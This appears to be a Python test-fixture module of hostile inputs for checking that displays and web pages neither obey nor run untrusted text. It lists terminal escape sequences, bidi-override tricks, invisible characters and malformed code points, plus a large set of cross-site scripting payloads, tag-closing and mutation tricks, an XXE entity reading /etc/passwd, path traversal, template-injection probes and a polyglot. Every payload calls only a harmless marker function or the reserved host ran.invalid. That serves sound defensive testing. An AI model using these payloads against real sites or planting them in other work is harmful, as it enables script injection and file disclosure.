"""Awkward strings: what no display should obey, what no reader would see, and what a page must never run.

Whatever runs calls ``ran`` or asks the network for ``ran.invalid``; :mod:`tests.hostile.watching` waits for both.
"""

import unicodedata

CONTROLS = {
    "C0, DEL and C1": "".join(map(chr, (*range(9), *range(14, 32), *range(127, 160)))),
    "carriage returns": "seen\rhidden", "backspaces": "seen\b\b\b\b", "NUL": "a\0b", "shift out": "\x0etext\x0f",
    "colours": "\x1b[31mred\x1b[0;1;5;8m", "cursor and screen": "\x1b[2J\x1b[H\x1b[9A\x1b[?1049h\x1b[?25l\x1bc\x1b#8",
    "title": "\x1b]0;title\x07\x1b]2;title\x1b\\", "link": "\x1b]8;;https://ran.invalid/\x1b\\here\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cmFu\x07", "reports": "\x1b[6n\x1b[c\x1b[>q\x1b]11;?\x07\x05",
    "mouse": "\x1b[?1003h\x1b[?2004h",
    "device strings": "\x1bP$q\"p\x1b\\\x1bPq#0~\x1b\\\x1b_Gf=24;AAAA\x1b\\\x1b^private\x1b\\\x1bXstring\x1b\\",
    "C1 sequences": "\x9b31m\x9d0;title\x9c\x90q\x9c\x9fG\x9c\x85\x8d\x84", "character sets": "\x1b(0lqk\x1b%@\x1b)0",
    "unfinished": "\x1b[", "unfinished string": "\x1b]0;",
}
ORDERING = {
    "override": "abc\u202edef", "nested": "\u202d\u202e\u202a\u202b" * 40 + "x", "isolates": "a\u2066b\u2067c\u2068d",
    "closed too often": "a\u202c\u2069b", "marks": "1\u200f2\u200e3\u061c4", "name of a file": "photo\u202egnp.exe",
    "mixed": "abc שלום 123 (x) نور, [١٢] ab", "rtl first": "«שלום» abc <b>", "brackets": "א([{x}])ב" * 8,
    "source": "/*\u202e } \u2066if (admin)\u2069 \u2066 begin */",
}
UNSEEN = {
    "joiners": "a\u200db\u200cc\u2060d\ufeffe\u00adf\u180eg\u200bh", "joiners alone": "\u200d\u200d\u200c",
    "selectors alone": "\ufe0f\ufe0e\U000e0100\u034f\u180b", "selectors": "a\ufe0fb\ufe0e1\ufe0f\u20e3葛\U000e0100",
    "fillers": "\u3164\u115f\u1160\uffa0\u2800", "tags": "\U000e0041\U000e0042\U000e007f",
    "spaces": "\u00a0\u1680\u2003\u202f\u3000",
    "annotations": "\ufff9a\ufffab\ufffb\ufffc\ufffd", "byte order marks": "\ufeff\ufeffa\ufeff",
    "invisible operators": "f\u2061(x)\u2062y\u2063z\u2064w", "shorthand": "\U0001bca0\U0001bca3",
    "music": "\U0001d173x\U0001d17a",
    "never drawn": "\u2065\ufff0\U000e0000\U000e0fff",
}
CODES = {
    "noncharacters": "\ufdd0\ufdef\ufffe\uffff\U0001fffe\U0010ffff", "private": "\ue000\uf8ff\U000f202e\U00100000",
    "unassigned": "\u0378\u05ff\U0002fe1f\U0003ffff", "surrogates": "\ud800", "low surrogate": "a\udfffb",
    "surrogates the wrong way round": "\udc00\ud800", "last": "\U0010fffd",
}
LINES = {
    "endings": "a\nb\r\nc\rd\ve\ff\x1cg\x1dh\x1ei\x85j\u2028k\u2029l", "newlines alone": "\n\n\n", "leading": "\na",
    "white": " \t \t\n \t", "many spaces": " " * 300, "no end": "x" * 300, "tabs": "\t" * 40,
}
LETTERS = {
    "tower": "Z" + "\u0301\u0327\u0489" * 60, "marks alone": "\u0301\u0338\u20dd",
    "marks on white": "\n\u0301 \u0301\t\u0301",
    "enclosing": "a\u20dd\u20e3", "families": "👩‍👩‍👧‍👦👨🏽‍🚀🏳️‍🌈", "flags": "🇩🇪🇫🇷🇩",
    "flag of tags": "🏴\U000e0067\U000e0062\U000e007f",
    "skin alone": "\U0001f3fd", "joined to nothing": "👩\u200d", "long family": "👩" + "\u200d👩" * 60,
    "keycaps": "1️⃣#️⃣",
    "Hangul": "\u1112\u1161\u11ab한\u1161\u11a8\u1160", "Indic": "क्षि நி", "Thai": "กำ้ๆ",
    "Arabic": "لا إله \ufdfd \u0600١٢",
    "case": "ßẞİıſKﬃŉǰΐ", "wide": "漢字ﾊﾝ\u3000Ａ", "bidi digits": "١٢٣ 456 ۷۸۹", "Zalgo": "h̸̡̪̯ͨ͊̽̅̾̎",
    "ligature": "\ufb03\u01c6",
}
# What could be taken for markup, script, style, address or template, for each place in which a page holds a text.
MARKUP = (
    "<script>ran(1)</script>", "<ScRiPt >ran(1)</sCrIpT\t>", "<script src=//ran.invalid/a.js>",
    "<scr<script>ipt>ran(1)</script>",
    "<script type=module>ran(1)</script>", "<script/x>ran(1)</script >", "<img src=x onerror=ran(1)>",
    "<img/src='x'/onerror=ran(1)//",
    "<img src=`x` onerror=`ran(1)`>", "<img srcset=//ran.invalid/a.png>", "<img src=//ran.invalid/b.png",
    "<image href=x onerror=ran(1)>",
    "<svg onload=ran(1)>", "<svg/onload=ran(1)//", "<svg><script>ran(1)</script></svg>",
    "<svg><script href=data:,ran(1) />",
    "<svg><animate onbegin=ran(1) attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to=ran(1)>",
    "<svg><a xlink:href=javascript:ran(1)><text y=9>x</text></a></svg>", "<svg><foreignObject><body onload=ran(1)>",
    "<svg><use href=//ran.invalid/c.svg#x>", "<svg><style><img src=x onerror=ran(1)></style>",
    "<math href=javascript:ran(1)>x</math>",
    "<iframe srcdoc='<script>top.ran(1)</script>'>", "<iframe src=javascript:top.ran(1)>",
    "<iframe src=//ran.invalid/d>",
    "<object data=javascript:ran(1)>", "<object data=//ran.invalid/e>", "<embed src=//ran.invalid/f>",
    "<frameset onload=ran(1)>",
    "<link rel=stylesheet href=//ran.invalid/g.css>", "<link rel=prefetch href=//ran.invalid/h>",
    "<base href=//ran.invalid/>",
    "<meta http-equiv=refresh content='0;url=//ran.invalid/i'>", "<meta http-equiv=Content-Security-Policy content=''>",
    "<style>@import '//ran.invalid/j.css';</style>", "<style>*{background:url(//ran.invalid/k)}</style>",
    "<body onload=ran(1)>", "<details open ontoggle=ran(1)>", "<marquee onstart=ran(1)>",
    "<video><source onerror=ran(1)></video>",
    "<video src=//ran.invalid/l autoplay>", "<audio src=x onerror=ran(1)>", "<input autofocus onfocus=ran(1)>",
    "<select autofocus onfocus=ran(1)>", "<textarea autofocus onfocus=ran(1)>", "<a href=javascript:ran(1)>x</a>",
    "<form action=javascript:ran(1)><button>x</button></form>", "<form id=data><input name=textContent>",
    "<a id=data name=root>",
    "<dialog open onclose=ran(1)>", "<template><img src=x onerror=ran(1)></template>", "<slot onslotchange=ran(1)>",
    "<table background=//ran.invalid/m>", "<x style=animation-name:x onanimationstart=ran(1)>",
    "<x contenteditable autofocus onblur=ran(1)>",
    "<plaintext>", "<xmp>", "<noembed>", "<listing>", "<portal src=//ran.invalid/n>",
)
CLOSERS = (
    "</script><script>ran(1)</script>", "</SCRIPT\n><svg onload=ran(1)>", "<!--<script>", "<!--<script></script>",
    "-->", "--!><img src=x onerror=ran(1)>",
    "<!--><img src=x onerror=ran(1)>", "<![CDATA[<img src=x onerror=ran(1)>]]>", "]]><img src=x onerror=ran(1)>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "</title><img src=x onerror=ran(1)>",
    "</textarea><img src=x onerror=ran(1)>",
    "</style><img src=x onerror=ran(1)>", "</noscript><img src=x onerror=ran(1)>",
    "</template><img src=x onerror=ran(1)>",
    "</select><img src=x onerror=ran(1)>", "</option></datalist><img src=x onerror=ran(1)>",
    "</pre></span></figure><img src=x onerror=ran(1)>",
    "</text></svg><img src=x onerror=ran(1)>", "</tspan></text><script>ran(1)</script>",
    "</td></table></main></body></html><img src=x onerror=ran(1)>",
    "<noscript><p title='</noscript><img src=x onerror=ran(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=ran(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran(1)>",
    "<svg></p><style><a id='</style><img src=x onerror=ran(1)>'>",
)
ATTRIBUTES = (
    "\" onmouseover=\"ran(1)", "' onmouseover='ran(1)", "` onmouseover=`ran(1)", " onmouseover=ran(1) ",
    "\" autofocus onfocus=ran(1) x=\"",
    "' autofocus onfocus=ran(1) x='", "\"><img src=x onerror=ran(1)>", "'><img src=x onerror=ran(1)>",
    "\" style=\"background:url(//ran.invalid/o)",
    "\" id=\"data", "\" class=\"live-data", "\" href=\"javascript:ran(1)", "\" srcdoc=\"<script>ran(1)</script>",
    "x\tonmouseover=ran(1)", "x\fonmouseover=ran(1)",
    "&quot; onmouseover=&quot;ran(1)", "&#34; onmouseover=&#34;ran(1)", "\\\" onmouseover=ran(1)",
    "%22%20onmouseover=ran(1)", "=\"\"'>",
)
ENTITIES = (
    "&lt;script&gt;ran(1)&lt;/script&gt;", "&#60;img src=x onerror=ran(1)&#62;",
    "&#x3c;img src=x onerror=ran(1)&#x3e;", "&lt", "&LT;img src=x onerror=ran(1)&GT;",
    "&amp;lt;script&amp;gt;", "javascript&colon;ran(1)", "java&Tab;script&NewLine;:ran(1)", "&zwj;&shy;&rlm;",
    "&#0;&#x202e;&#xd800;&#x110000;", "&unknown;&",
)
SCRIPTS = (
    "';ran(1);//", "\";ran(1);//", "`;ran(1);//", "\\';ran(1);//", "\\\\\";ran(1);//", "${ran(1)}", "`${ran(1)}`",
    "\u2028ran(1)\u2028", "\u2029ran(1)//", "\nran(1)\n",
    "}});ran(1);({", "*/ran(1)/*", "//\nran(1)", "\\u003cscript\\u003eran(1)", "\\x3cimg src=x onerror=ran(1)\\x3e",
    "\"}],\"x\":[{\"", "{\"__proto__\":{\"ran\":1}}",
    "__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "then", "undefined", "NaN", "0", "-1", "null",
    "data-card", "innerHTML",
)
STYLES = (
    "}*{background:url(//ran.invalid/p)}", "expression(ran(1))", "url(javascript:ran(1))",
    "@import url(//ran.invalid/q.css);", "\\3c img src=x onerror=ran(1)\\3e ",
    "x;behavior:url(#r)", "red;}</style><script>ran(1)</script>", "/*", "*/}", "var(--ink)", "c12 on blank newline",
)
ADDRESSES = (
    "javascript:ran(1)", "JaVaScRiPt:ran(1)", "java\tscript:ran(1)", "java\nscript:ran(1)", "\x01javascript:ran(1)",
    " javascript:ran(1)", "javascript://%0aran(1)",
    "data:text/html,<script>ran(1)</script>", "vbscript:ran(1)", "//ran.invalid/s", "https://ran.invalid/t",
    "\\\\ran.invalid\\u", "#\"><img src=x onerror=ran(1)>",
    "?scaling=\"><img src=x onerror=ran(1)>", "../../../../etc/passwd", "file:///etc/passwd", "%2e%2e%2f", "%00",
    "%E0%A4%A", "CON", "unit-1-hidden-0",
)
TEMPLATES = (
    "{{ 7*7 }}", "{% for x in range(99999999) %}", "{{ config }}", "{{ ''.__class__.__mro__ }}",
    "{{constructor.constructor('ran(1)')()}}", "${{ 7*7 }}", "#{7*7}", "<%= 7*7 %>",
    "[[${7*7}]]", "{#", "%(name)s", "{0.__class__}", "$x_1$", "$\\frac{1}{0}$", "\\input{/etc/passwd}",
    "=HYPERLINK(\"//ran.invalid/v\")", "@SUM(1)", "-1+1", "%s%s%s%n",
)
LIKE = (
    "＜script＞ran(1)＜/script＞", "﹤img src=x onerror=ran(1)﹥", "‹script›ran(1)‹/script›", "＂ onmouseover=＂ran(1)",
    "ʺ onmouseover=ʺran(1)", "<ſcript>ran(1)</ſcript>",
    "<ımg src=x onerror=ran(1)>", "javaſcript:ran(1)", "+ADw-script+AD4-ran(1)+ADw-/script+AD4-",
    "<\u0338img src=x onerror=ran(1)>", "<\u200dimg src=x onerror=ran(1)>",
    "<\0img src=x onerror=ran(1)>", "<img src=x onerror\0=ran(1)>", "<img src=x onerror\u3000=ran(1)>",
    "\ufeff<script>ran(1)</script>", "\u202e>tpircs<ran(1)",
)
# Closes whatever may be open, in one go.
POLYGLOT = ("x'\"`>-->*/]]>}}%}</style></title></textarea></select></script></noscript></template></svg></math></xmp>"
            "<svg/onload='/*`/*\\`/*'/*\"/**/(ran(1))//'><img src=x onerror=ran(1)>${ran(1)}{{ran(1)}}")

AWKWARD: dict[str, str] = {**CONTROLS, **ORDERING, **UNSEEN, **CODES, **LINES, **LETTERS}
PAYLOADS = (*MARKUP, *CLOSERS, *ATTRIBUTES, *ENTITIES, *SCRIPTS, *STYLES, *ADDRESSES, *TEMPLATES, *LIKE, POLYGLOT)
# A name: what closes all that may be open, and what drives a terminal.
SHORT = f"{POLYGLOT}\x1b]0;t\x07\x9b31m\u202e\u2066\u200f\ufeff\ud800\u2028\n\t\0{{{{ 7*7 }}}}"
# A text with everything in it.
TEXT = "\n".join((*AWKWARD.values(), *PAYLOADS))


def sound(text: str) -> str:
    """Return a text without what a corpus refuses: halves of characters, NUL, and more than some control characters."""
    kept, left = [], len(text) // 200
    for character in text:
        control = unicodedata.category(character) == "Cc" and character not in "\n\t\r" and ord(character) < 127
        left -= control
        if character != "\0" and not "\ud800" <= character <= "\udfff" and not (control and left < 0):
            kept.append(character)
    return "".join(kept)
